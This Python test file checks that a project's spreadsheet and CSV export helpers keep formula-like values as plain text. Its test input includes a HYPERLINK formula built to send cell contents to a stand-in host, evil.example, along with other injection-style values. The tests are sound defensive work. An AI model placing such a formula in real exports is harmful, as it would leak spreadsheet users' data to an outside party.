"""Formula-like text in exports stays text (no spreadsheet formula injection)."""

import io

import openpyxl

from gongkai.core.spreadsheets import csv_text, from_csv_text, protect_formulas, xlsx_cell

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


def test_xlsx_write_only_cell_is_a_string_with_the_same_value():
    book = openpyxl.Workbook(write_only=True)
    sheet = book.create_sheet("s")
    sheet.append([xlsx_cell(sheet, EVIL), xlsx_cell(sheet, "示范区民政局"), xlsx_cell(sheet, 3)])
    out = io.BytesIO()
    book.save(out)
    cells = openpyxl.load_workbook(io.BytesIO(out.getvalue())).active[1]
    assert [c.data_type for c in cells] == ["s", "s", "n"]
    assert cells[0].value == EVIL


def test_protect_formulas_on_ordinary_sheet():
    book = openpyxl.Workbook()
    book.active.append([EVIL, "普通文字"])
    protect_formulas(book.active)
    out = io.BytesIO()
    book.save(out)
    cell = openpyxl.load_workbook(io.BytesIO(out.getvalue())).active["A1"]
    assert (cell.data_type, cell.value) == ("s", EVIL)


def test_csv_text_round_trip():
    for value in [EVIL, "+86 138", "-cmd", "@SUM(A1)"]:
        assert csv_text(value).startswith("'")
        assert from_csv_text(csv_text(value)) == value
    for value in ["-5", "12.50", "示范区", "'引号开头"]:
        assert csv_text(value) == value
        assert from_csv_text(csv_text(value)) == value
